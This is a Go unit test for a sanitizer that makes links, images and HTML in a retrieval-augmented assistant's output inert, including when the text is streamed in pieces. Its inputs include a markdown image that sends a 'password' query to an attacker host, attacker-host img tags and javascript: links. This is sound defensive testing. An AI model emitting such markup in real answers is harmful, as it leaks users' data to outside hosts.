package rag

import (
	"strings"
	"testing"
)

// Markup a front end would act on is made inert; citations, text and the
// sources' own links are kept; a streamed text comes out the same however
// it is cut into pieces.
func TestInert(t *testing.T) {
	const source = "https://news.example/a.html"
	for _, tt := range []struct{ in, want string }{
		{"产量为3700吨[1]。![图](http://attacker.example/log?q=密码)", "产量为3700吨[1]。图"},
		{`见<img src="http://attacker.example/x.png">图<a href="javascript:alert(1)">点我</a>。`, "见图点我。"},
		{"[原文](" + source + ")与[别处](http://attacker.example/)", "[原文](" + source + ")与别处"},
		{"[点我](javascript:alert(1))", "点我)"},
		{"访问 http://attacker.example/?q=1 查看", "访问 `http://attacker.example/?q=1` 查看"},
		{"访问 " + source + " 查看", "访问 " + source + " 查看"},
		{"a < b，第[2]段", "a ＜ b，第[2]段"},
		{"答![图][r]\n\n[r]: http://attacker.example/x.png", "答[图][r]\n\n[r]： `http://attacker.example/x.png`"},
		{"未完的<img src=http://attacker.example/", "未完的＜img src=`http://attacker.example/`"},
	} {
		if got := Inert(tt.in, []string{source}); got != tt.want {
			t.Errorf("Inert(%q)\n got %q\nwant %q", tt.in, got, tt.want)
		}
		for size := 1; size <= 7; size++ {
			s := &inertStream{allowed: []string{source}}
			var out strings.Builder
			for i := 0; i < len(tt.in); i += size {
				out.WriteString(s.write(tt.in[i:min(len(tt.in), i+size)]))
			}
			out.WriteString(s.flush())
			if got := out.String(); strings.Contains(got, "![") || strings.Contains(got, "<img") || strings.Contains(got, "](javascript") || strings.Contains(got, "](http://attacker") {
				t.Errorf("streamed in pieces of %d bytes: %q", size, got)
			}
		}
	}
}
